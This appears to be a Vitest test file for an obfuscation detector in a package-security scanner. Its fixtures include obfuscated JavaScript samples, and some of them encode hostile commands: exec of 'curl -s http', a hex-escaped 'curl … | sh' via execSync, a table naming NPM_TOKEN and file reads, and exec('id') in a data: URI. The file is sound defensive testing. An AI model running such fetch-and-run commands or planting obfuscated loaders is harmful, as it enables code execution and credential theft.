import { describe, expect, it } from "vitest";
import { findObfuscation } from "../../src/analysis/obfuscation.js";

/** Severity, place, and the message up to its first colon or parenthesis. */
const summary = (source: string) => findObfuscation(source).map((f) => `${f.severity} ${f.line}:${f.column} ${f.message.split(/[:(]/)[0]!.trim()}`);

// In the style of javascript-obfuscator 4: a string array, its rotation, a decoder, _0x names throughout.
const OBFUSCATOR = String.raw`const _0x2e4e=['log','1195572hBJfCk','child_process','3UqWcLx','exec','2361870OdSjHu','curl\x20-s\x20http'];
(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=_0x3b1c,_0x1f8a3e=_0x2d8f05();while(!![]){try{const _0x59a6a3=parseInt(_0x4d74cb(0x1e4))/0x1+-parseInt(_0x4d74cb(0x1e1))/0x2*(parseInt(_0x4d74cb(0x1e3))/0x3);if(_0x59a6a3===_0x4b81bb)break;else _0x1f8a3e['push'](_0x1f8a3e['shift']());}catch(_0x4b3b7c){_0x1f8a3e['push'](_0x1f8a3e['shift']());}}}(_0x2e4f,0x5a5b3));
function _0x3b1c(_0x1a2b3c,_0x4d5e6f){const _0x2e4e07=_0x2e4f();return _0x3b1c=function(_0x3b1c2d,_0x19a7f0){_0x3b1c2d=_0x3b1c2d-0x1e0;let _0x5c7d1e=_0x2e4e07[_0x3b1c2d];return _0x5c7d1e;},_0x3b1c(_0x1a2b3c,_0x4d5e6f);}
function _0x2e4f(){return _0x2e4e;}
const _0x51a9b2=_0x3b1c,_0x3c8d0a=require(_0x51a9b2(0x1e2));_0x3c8d0a[_0x51a9b2(0x1e5)](_0x51a9b2(0x1e6),function(_0x27f1e4,_0x44b0c9,_0x1d6e8f){console[_0x51a9b2(0x1e0)](_0x44b0c9);});
`;

// JSFuck for `[]["filter"]["constructor"]`, the start of every JSFuck program.
const JSFUCK =
  "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]]";

const JJENCODE = `$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$]);`;

const AAENCODE =
  "ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ ['_']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o);(ﾟДﾟ)={ﾟΘﾟ: '_' ,ﾟωﾟﾉ : ((ﾟωﾟﾉ==3) +'_') [ﾟΘﾟ] ,ﾟｰﾟﾉ :(ﾟωﾟﾉ+ '_')[o^_^o -(ﾟΘﾟ)] ,ﾟДﾟﾉ:((ﾟｰﾟ==3) +'_')[ﾟｰﾟ] }; (ﾟДﾟ) [ﾟΘﾟ] =((ﾟωﾟﾉ==3) +'_') [c^_^o];(ﾟДﾟ) ['c'] = ((ﾟДﾟ)+'_') [ (ﾟｰﾟ)+(ﾟｰﾟ)-(ﾟΘﾟ) ];(ﾟДﾟ) ['o'] = ((ﾟДﾟ)+'_') [ﾟΘﾟ];(ﾟoﾟ)=(ﾟДﾟ) ['c']+(ﾟДﾟ) ['o']+(ﾟωﾟﾉ +'_')[ﾟΘﾟ]+ ((ﾟωﾟﾉ==3) +'_') [ﾟｰﾟ] + ((ﾟДﾟ) +'_') [(ﾟｰﾟ)+(ﾟｰﾟ)];";

const PACKER = String.raw`eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0 1(){2.3("4")}',5,5,'function|hello|console|log|hi'.split('|'),0,{}))`;

/** Deterministic bytes that look random, as an encrypted or compressed payload does. */
function noise(length: number, seed = 7): Buffer {
  const bytes = Buffer.alloc(length);
  let state = seed;
  for (let index = 0; index < length; index++) {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    bytes[index] = state >> 16;
  }
  return bytes;
}

const hexEscaped = (text: string) => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join("");

describe("findObfuscation: obfuscators and encoders", () => {
  it("finds javascript-obfuscator output once, by its _0x names and string-array rotation", () => {
    const findings = findObfuscation(OBFUSCATOR);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ rule: "obfuscated-code", severity: "high", line: 1, column: 6 });
    expect(findings[0]!.message).toContain("20 or more distinct _0x… names, its string-array rotation");
    expect(findings[0]!.snippet.length).toBeLessThanOrEqual(122);
  });

  it("finds the rotation with mangled names too", () => {
    const mangled = "(function(a,b){const c=d,e=a();while(!![]){try{const f=parseInt(c(0x1e4))/0x1;if(f===b)break;else e['push'](e['shift']());}catch(g){e['push'](e['shift']());}}}(h,0x5a5b3));";
    expect(summary(mangled)).toEqual(["high 1:99 The output of javascript-obfuscator"]);
  });

  it("finds JSFuck, jjencode, aaencode and the packer", () => {
    expect(summary(`var x = 1;\n${JSFUCK}()`)).toEqual(["high 2:0 JSFuck"]);
    expect(findObfuscation(`var x = 1;\n${JSFUCK}()`)[0]!.message).toContain(`${JSFUCK.length + 2} characters`); // the run goes on into `()`
    expect(summary(JJENCODE)).toEqual(["high 1:0 The output of jjencode"]);
    expect(summary(AAENCODE)).toEqual(["high 1:73 The output of aaencode"]);
    expect(summary(`/* packed */\n${PACKER}`)).toEqual(["high 2:0 Packed with Dean Edwards' packer"]);
    expect(summary("eval(function(h,u,n,t,e,r){r=\"\";for(var i=0;i<h.length;i++){}return decodeURIComponent(escape(r))}(\"x\",1,\"a\",2,3,4))")).toHaveLength(1);
  });

  it("stays quiet on code that merely looks similar", () => {
    const source = [
      "const _0x = 1, foo_0x1a2b3c = 2, value = 0x1a2b3c;",
      "queue.push(queue.shift()); while (true) { if (!![].length) break; }",
      "const empty = [[], [[]], [[[]]]]; if (!(a && (b || c))) f(g(h(i(j(k())))));",
      "const truthy = !![] + !+[] + [+[]];",
      "evaluate(function (p, a, c, k, e, d) { return p; });",
      'const FACES = ["(ﾟДﾟ)", "(ﾟωﾟ)", "(´・ω・`)"];',
      "const $ = require('jquery'); $.fn.x = {___: 1};",
    ].join("\n");
    expect(findObfuscation(source)).toEqual([]);
  });

  it("needs twenty distinct _0x names without the rotation", () => {
    const names = (count: number) => Array.from({ length: count }, (_, i) => `var _0x${(0x1a2b00 + i).toString(16)}=${i};`).join("\n");
    expect(findObfuscation(names(19))).toEqual([]);
    expect(summary(names(20))).toEqual(["high 1:4 The output of javascript-obfuscator"]);
  });
});

describe("findObfuscation: hidden text and encoded blobs", () => {
  it("finds a string table of hex escapes (high) and a few escaped strings (medium)", () => {
    const words = ["child_process", "execSync", "curl -s http", "NPM_TOKEN", "writeFileSync", "os.homedir()", "readFileSync", "platform", "hostname", "userInfo"];
    const table = `var _a = [${words.map((w) => `"${hexEscaped(w)}"`).join(", ")}];`;
    expect(summary(table)).toEqual(["high 1:11 A table of 10 or more strings written entirely as hex escapes of printable text"]);
    const few = `require("${hexEscaped("child_process")}")["${hexEscaped("execSync")}"]("${hexEscaped("curl -s http://x | sh")}");`;
    expect(summary(few)).toEqual(["medium 1:9 3 strings written entirely as hex escapes of printable text"]);
  });

  it("ignores ordinary escapes: terminal colours, control characters, a short word", () => {
    const source = String.raw`const red = "\x1b[31m"; const ctl = /[\x00-\x1f\x7f-\x9f]/g; const ab = "\x41\x42\x43"; const sep = "\u0020\u002d\u0020"; const one = "${hexEscaped("username")}";`;
    expect(findObfuscation(source)).toEqual([]);
  });

  it("finds a large base64 blob and reports its size", () => {
    const payload = noise(6000).toString("base64");
    const source = `const data = "${payload}";\nconst more = '${noise(3000, 9).toString("base64")}';\n`;
    expect(findObfuscation(source)).toEqual([
      {
        rule: "obfuscated-code",
        severity: "medium",
        message: "A 8 KB base64 string (6 KB decoded): an encoded payload or embedded data; 1 more, 9 KB decoded in all.",
        line: 1,
        column: 13,
        snippet: expect.stringMatching(/^const data = "/),
      },
    ]);
  });

  it("finds a long hex blob, but not a Diffie-Hellman prime", () => {
    expect(summary(`var p = "${noise(2500).toString("hex")}";`)).toEqual(["medium 1:8 A 5 KB hex string"]);
    expect(findObfuscation(`var modp18 = "${"ffffffffffffffffc90fdaa22168c234".repeat(64)}";`)).toEqual([]);
  });

  it("finds a script in a data: URI", () => {
    const uri = `data:text/javascript;base64,${Buffer.from("require('child_process').exec('id');".repeat(8)).toString("base64")}`;
    expect(summary(`import("${uri}");`)).toEqual(["medium 1:8 A script encoded in a data"]);
  });

  it("ignores embedded media, source maps, split strings and long plain runs", () => {
    const png = `iVBORw0KGgo${noise(3000).toString("base64")}`;
    const font = `AAEAAA${noise(3000).toString("base64")}`;
    const wasm = `AGFzbQEAAAA${noise(3000).toString("base64")}`;
    const split = noise(3000)
      .toString("base64")
      .match(/.{1,76}/g)!
      .map((line) => `"${line}"`)
      .join(" +\n  ");
    const source = [
      `const icon = "${png}";`,
      `const fonts = { "Roboto-Regular.ttf": "${font}" };`,
      `const module = '${wasm}';`,
      `const image = "data:image/png;base64,${noise(3000).toString("base64")}";`,
      `const chunks = ${split};`,
      `const dna = "${"ACGT".repeat(500)}";`,
      `const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";`,
      `//# sourceMappingURL=data:application/json;charset=utf-8;base64,${Buffer.from(JSON.stringify({ version: 3, mappings: "A".repeat(3000) })).toString("base64")}`,
    ].join("\n");
    expect(findObfuscation(source)).toEqual([]);
  });

  it("stays quiet on minified code", () => {
    const minified =
      '!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():"function"==typeof define&&define.amd?define(t):(e="undefined"!=typeof globalThis?globalThis:e||self).dayjs=t()}(this,(function(){"use strict";var t=1e3,e=6e4,n=36e5,r="millisecond",i="second",s="minute",u="hour",a="day",o="week",c="month",f="quarter",h="year",d="date",l="Invalid Date",$=/^(\\d{4})[-/]?(\\d{1,2})?[-/]?(\\d{0,2})[Tt\\s]*(\\d{1,2})?:?(\\d{1,2})?:?(\\d{1,2})?[.:]?(\\d+)?$/;return!!e&&!![]}));';
    expect(findObfuscation(minified.repeat(50))).toEqual([]);
  });

  it("stays fast on a large file", () => {
    const chunk = 'function f(a,b){return a&&b?[a,b]:(a||b)+"x\\x1b[0m"+_0x+"AAAA"}var q=[1,2,3],w={a:!0,b:!1};if((a+b)*(c-d))x=(((y)));\n';
    const source = chunk.repeat(90_000);
    const started = performance.now();
    expect(findObfuscation(source)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(1000);
  });
});
